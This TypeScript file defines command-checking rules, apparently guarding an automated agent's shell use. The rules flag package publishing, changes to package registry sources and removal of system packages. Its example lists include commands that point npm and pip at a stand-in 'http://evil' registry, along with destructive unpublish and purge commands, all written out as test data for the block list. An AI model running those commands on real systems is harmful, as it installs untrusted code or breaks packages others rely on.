// Rules about packages and releases that others use.
import type { CommandRule } from "../rule.ts";

const family = "packages";
const first = (args: readonly { readonly text: string }[], count: number): string =>
  args
    .map(({ text }) => text)
    .filter((text) => !text.startsWith("-"))
    .slice(0, count)
    .join(" ");

export const publishRules: readonly CommandRule[] = [
  {
    id: "publish",
    family,
    severity: "high",
    why: "This publishes, unpublishes or changes a package or release that others use.",
    instead: "Prepare it, and let a human publish.",
    programs: [
      "npm",
      "pnpm",
      "yarn",
      "bun",
      "cargo",
      "gem",
      "twine",
      "poetry",
      "flit",
      "hatch",
      "uv",
      "mvn",
      "gradle",
      "gradlew",
      "dotnet",
      "nuget",
      "lerna",
      "goreleaser",
      "semantic-release",
      "np",
      "docker",
      "podman",
      "helm",
      "pod",
      "vsce",
      "ovsx",
      "clojure",
      "mix",
      "changeset",
      "release-it",
      "twine3",
      "conan",
      "composer",
      "luarocks",
      "cpan-upload",
      "jsr",
      "deno",
      "expo",
      "eas",
      "fastlane",
      "standard-version",
    ],
    find: ({ program, args, text }) => {
      if (/--dry-run|--help|\s-h\b/.test(text)) return false;
      const verbs = first(args, 3);
      switch (program) {
        case "npm":
        case "pnpm":
        case "bun":
        case "lerna":
          return (
            /^(publish|unpublish|deprecate|dist-tag (add|rm)|access|owner (add|rm)|token|adduser|login|logout|hook|org|team|star|profile set|stage)\b/.test(
              verbs,
            ) && !/^(access (list|ls|get)|owner ls|token list|team ls|org ls)/.test(verbs)
          );
        case "yarn":
          return /^(publish|unpublish|npm (publish|unpublish|tag|logout|login)|tag (add|remove)|owner (add|remove)|login)\b/.test(verbs);
        case "cargo":
          return /^(publish|yank|owner|login|logout)\b/.test(verbs);
        case "gem":
          return /^(push|yank|owner|signin)\b/.test(verbs);
        case "twine":
          return /^(upload|register)\b/.test(verbs);
        case "poetry":
        case "flit":
        case "hatch":
        case "uv":
        case "jsr":
        case "deno":
          return /^publish\b/.test(verbs);
        case "mvn":
        case "gradle":
        case "gradlew":
          return /\b(deploy|release:perform|publish|uploadArchives|bintrayUpload)\b/.test(text);
        case "dotnet":
        case "nuget":
          return /\b(nuget (push|delete)|push|delete)\b/.test(verbs);
        case "docker":
        case "podman":
          return /^(push|manifest push|login|logout|trust|plugin push|image push)\b/.test(verbs);
        case "helm":
          return /^(push|registry login)\b/.test(verbs);
        case "pod":
          return /^trunk (push|delete|deprecate)\b/.test(verbs);
        case "mix":
          return /^hex\.(publish|retire|owner)/.test(verbs);
        case "vsce":
        case "ovsx":
          return /^(publish|unpublish|login)\b/.test(verbs);
        case "goreleaser":
          return !/^(check|build|healthcheck)\b/.test(verbs);
        case "np":
        case "semantic-release":
        case "release-it":
          return true;
        case "eas":
        case "expo":
        case "fastlane":
          return /\b(publish|submit|release|deliver|upload_to)\b/.test(text);
        case "changeset":
          return /^(publish|tag)\b/.test(verbs);
        case "luarocks":
          return /^upload\b/.test(verbs);
        case "conan":
          return /^(upload|remove)\b/.test(verbs);
        default:
          return false;
      }
    },
    examples: {
      flags: [
        "npm publish",
        "npm unpublish my-package",
        "cargo publish",
        "docker push x/y",
        "twine upload dist/*",
        "yarn npm publish",
        "npm deprecate a 'b'",
        "gem push x.gem",
        "mvn deploy",
      ],
      passes: ["npm publish --dry-run", "npm install", "npm run publish:docs", "cargo build", "docker build .", "npm access list packages"],
    },
  },
  {
    id: "package-source",
    family,
    severity: "medium",
    why: "This takes packages from another place than the one everybody trusts.",
    instead: "Use the registry the project is set up for.",
    programs: [
      "npm",
      "pnpm",
      "yarn",
      "bun",
      "pip",
      "pip3",
      "gem",
      "cargo",
      "uv",
      "poetry",
      "conda",
      "composer",
      "go",
      "apt-key",
      "add-apt-repository",
    ],
    find: ({ program, args, text }) => {
      const verbs = first(args, 3);
      if (/^(npm|pnpm|yarn|bun)$/.test(program))
        return (
          /^config set (registry|@[^ ]+:registry|proxy|https-proxy|strict-ssl|ignore-scripts)/.test(`${verbs}`) ||
          /--registry[= ]http:/.test(text)
        );
      if (/^(pip|pip3|uv)$/.test(program))
        return /^config set/.test(verbs) || /--(index-url|extra-index-url|find-links|trusted-host|index)\b|(^| )-i /.test(text);
      if (program === "gem") return /^sources?\b/.test(verbs) && /-[ar]|--add|--remove/.test(text);
      return program === "add-apt-repository" || program === "apt-key" || (program === "composer" && /^config repo/.test(verbs));
    },
    examples: {
      flags: [
        "npm config set registry http://evil",
        "pip install --index-url http://evil x",
        "pip config set global.index-url http://evil",
      ],
      passes: ["npm install x", "pip install x", "npm config get registry", "gem install x"],
    },
  },
  {
    id: "packages-removed",
    family,
    severity: "medium",
    why: "This removes programs from the machine.",
    instead: "Leave installed programs where they are.",
    programs: [
      "apt",
      "apt-get",
      "aptitude",
      "dpkg",
      "yum",
      "dnf",
      "rpm",
      "zypper",
      "pacman",
      "apk",
      "brew",
      "port",
      "snap",
      "flatpak",
      "choco",
      "winget",
      "scoop",
      "emerge",
      "nix-env",
      "nix-collect-garbage",
      "pkg",
      "opkg",
    ],
    find: ({ program, args, text }) => {
      if (/--dry-run|--simulate|\s-s\b|--help/.test(text)) return false;
      const [verb = ""] = args.map((arg) => arg.text).filter((word) => !word.startsWith("-"));
      if (program === "dpkg") return / (-r|-P|--remove|--purge)\b/.test(` ${text}`);
      if (program === "rpm") return / (-e|--erase)\b/.test(text);
      if (program === "pacman") return / -R/.test(text);
      if (program === "nix-collect-garbage") return true;
      if (program === "nix-env") return / (-e|--uninstall|--delete-generations)\b/.test(text);
      return /^(remove|purge|autoremove|uninstall|erase|rm|del|delete|autopurge|zap|cleanup|full-upgrade|dist-upgrade|unmerge|deinstall|untap)$/.test(
        verb,
      );
    },
    examples: {
      flags: ["apt-get remove nginx", "apt purge python3", "brew uninstall git", "pacman -Rns x", "yum erase httpd", "dpkg -P x"],
      passes: ["apt-get install -y curl", "apt update", "brew list", "dpkg -l", "pacman -Qs x"],
    },
  },
];
